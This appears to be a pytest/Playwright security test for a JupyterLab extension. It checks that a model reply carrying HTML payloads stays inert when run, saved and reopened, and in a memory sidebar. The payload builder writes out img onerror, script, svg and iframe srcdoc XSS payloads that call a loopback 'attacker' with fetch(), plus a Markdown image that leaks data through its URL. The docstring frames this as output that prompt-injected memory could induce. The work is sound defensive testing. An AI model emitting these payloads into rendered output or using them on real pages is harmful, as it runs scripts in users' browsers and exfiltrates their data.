"""A model's reply is never live HTML in JupyterLab (issue 34), in headless Chromium.

One JupyterLab, one notebook: `%%ask` is answered by the Messages API stand-in on 127.0.0.1
(tests/claude_helpers.py, selected by ANTHROPIC_BASE_URL in the kernel's environment) with a
reply carrying the classic payloads: `<img onerror>`, `<script>`, `<svg><script>`,
`<iframe srcdoc>` and a Markdown image pointing at a loopback "attacker". Each script, if it
ran, would mark `window.__pwned` and call the attacker; the image would be fetched from it.
The test runs the cell, then saves the notebook and reloads the page: a notebook the user saved
is trusted, so JupyterLab renders its outputs without sanitizing them, and the saved output
itself must be inert. Neither time does a script run or a request reach the attacker, and the
payloads are on screen as text; so are they in the "Memory" sidebar, which shows the
write-back of the reply (recent checkpoints, the raw log's preview, a search hit).
"""

from __future__ import annotations

import json
import os
import threading
import time
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from claude_helpers import SDK_CREDENTIAL_VARIABLES, TODAY, FakeMessagesAPI, serve
from test_browser import (
    ARTIFACTS,
    CHROMIUM,
    CHROMIUM_ARGS,
    KERNEL_READY,
    PREBUILT,
    STEP_TIMEOUT_MS,
    run_command,
    running_lab,
    sync_api,
)

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(not CHROMIUM.exists(), reason="no /usr/bin/chromium"),
    pytest.mark.skipif(
        not (PREBUILT / "package.json").exists(), reason="no prebuilt labextension"
    ),
]

NOTEBOOK = "reply.ipynb"
SETTLE_SECONDS = 1.5  # time for an image to load or an onerror to fire, had they been live


def payload_reply(attacker: str) -> str:
    """A reply an injected memory could make the model write: four ways to run a script, one
    image that leaks data by its URL. Every script would mark the page and call the attacker."""

    def mark(name: str, where: str = "window") -> str:
        return (
            f"{where}.__pwned=({where}.__pwned||[]).concat('{name}');"
            f"fetch('{attacker}/ran-{name}')"
        )

    return (
        "Here is the plan.\n\n"
        f'<img src=x onerror="{mark("img")}">\n\n'
        f"<script>{mark('script')}</script>\n\n"
        f"<svg><script>{mark('svg')}</script></svg>\n\n"
        f"<iframe srcdoc=\"<script>{mark('iframe', 'parent')}</script>\"></iframe>\n\n"
        f"![c]({attacker}/image?d=secret-of-the-notebook)\n\n"
        "**Done.**"
    )


class ReplyAPI(FakeMessagesAPI):
    """The stand-in answering every call with the payload reply."""

    reply_text = ""

    def default_reply(self, number: int, body: dict) -> str:  # type: ignore[override]
        return self.reply_text


@contextmanager
def attacker_server() -> Iterator[tuple[str, list[str]]]:
    """A loopback server recording every request it gets: the attacker of the payloads."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 (the http.server name)
            seen.append(self.path)
            self.send_response(200)
            self.send_header("access-control-allow-origin", "*")
            self.end_headers()

        do_POST = do_GET  # noqa: N815

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


def reply_notebook(path: Path) -> None:
    cells = [
        "%config Hipo.summarizer = 'extractive'\n%load_ext hipo",
        "%%ask\nWhat should we change for February?",
    ]
    notebook = {
        "cells": [
            {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
             "source": source}  # fmt: skip
            for source in cells
        ],
        "metadata": {
            "kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }
    path.write_text(json.dumps(notebook))


@pytest.fixture
def lab(tmp_path: Path) -> Iterator[tuple[str, Path, str, list[str]]]:
    """JupyterLab on a folder holding reply.ipynb, its kernels' Claude calls going to ReplyAPI;
    yields the notebook's URL, the folder, the attacker's URL and what it saw."""
    root = tmp_path / "notebooks"
    root.mkdir()
    reply_notebook(root / NOTEBOOK)
    with attacker_server() as (attacker, seen), serve(ReplyAPI()) as api_url:
        ReplyAPI.reply_text = payload_reply(attacker)
        env = {
            **{k: v for k, v in os.environ.items() if k not in SDK_CREDENTIAL_VARIABLES},
            "ANTHROPIC_BASE_URL": api_url,
            "ANTHROPIC_API_KEY": "test-key",
            "HIPO_TODAY": TODAY,
        }
        with running_lab(root, tmp_path, env=env) as (base, token):
            yield f"{base}/lab/tree/{NOTEBOOK}?token={token}", root, attacker, seen


PWNED = "() => window.__pwned || null"


def assert_inert(page, attacker_seen: list[str], leaked: list[str], when: str) -> None:
    """No payload ran and nothing reached the attacker; the payloads show as text."""
    reply = page.locator(".jp-OutputArea-output", has_text="Here is the plan.").last
    sync_api.expect(reply).to_be_visible()
    time.sleep(SETTLE_SECONDS)
    assert page.evaluate(PWNED) is None, f"a script ran {when}"
    assert attacker_seen == [] and leaked == [], f"requests left {when}"
    text = reply.inner_text()
    assert "<script>" in text and "<img src=x onerror=" in text and "<iframe srcdoc=" in text
    assert reply.locator("img, script, iframe, svg").count() == 0
    image_link = reply.locator("a", has_text="[image: c]")
    assert image_link.count() == 1  # the image is a link: loaded only if clicked


def test_a_reply_with_html_payloads_stays_inert_when_run_and_reopened(lab):
    url, root, attacker, seen = lab
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(
            executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True
        )
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 900})
            page.set_default_timeout(STEP_TIMEOUT_MS)
            sync_api.expect.set_options(timeout=STEP_TIMEOUT_MS)
            leaked: list[str] = []
            page.on(
                "request",
                lambda request: leaked.append(request.url)
                if request.url.startswith(attacker)
                else None,
            )
            try:
                page.goto(url)
                page.wait_for_selector(".jp-Notebook .jp-Cell")
                page.wait_for_function(KERNEL_READY)
                run_command(page, "notebook:run-all-cells")
                usage = page.locator(".jp-OutputArea-output", has_text="tokens: input")
                sync_api.expect(usage).to_be_visible()
                assert_inert(page, seen, leaked, "after running the cell")

                run_command(page, "docmanager:save")
                saved = root / NOTEBOOK
                deadline = time.monotonic() + STEP_TIMEOUT_MS / 1000
                while "hipo-reply" not in saved.read_text() and time.monotonic() < deadline:
                    time.sleep(0.2)
                outputs = [
                    output
                    for cell in json.loads(saved.read_text())["cells"]
                    for output in cell.get("outputs", [])
                ]
                kept = [o["data"] for o in outputs if "text/html" in o.get("data", {})]
                assert kept and not any("text/markdown" in data for data in kept)
                saved_html = kept[-1]["text/html"]
                assert "<script" not in saved_html and "<img" not in saved_html

                page.reload()  # the saved, trusted notebook opens again with its outputs
                page.wait_for_selector(".jp-Notebook .jp-Cell")
                assert_inert(page, seen, leaked, "after reopening the saved notebook")

                # The write-back keeps the reply's gist: the sidebar shows it as text, in the
                # recent checkpoints, the preview of the raw log and a search hit.
                page.click(".jp-SideBar .lm-TabBar-tab[data-id='hipo-memory']")
                panel = page.locator("#hipo-memory")
                panel.locator(".jp-HipoMemory-checkpoint .jp-HipoMemory-node").first.click()
                preview = panel.locator(".jp-HipoMemory-previewText")
                sync_api.expect(preview).to_contain_text("<img src=x onerror=")
                panel.locator(".jp-HipoMemory-searchInput").fill("plan")
                panel.locator(".jp-HipoMemory-searchInput").press("Enter")
                sync_api.expect(panel.locator(".jp-HipoMemory-hit").first).to_be_visible()
                time.sleep(SETTLE_SECONDS)
                assert panel.locator("img, script, iframe, svg").count() == 0
                assert page.evaluate(PWNED) is None and seen == [] and leaked == []
            except Exception:
                page.screenshot(path=str(ARTIFACTS / "reply-failure.png"))
                raise
        finally:
            browser.close()

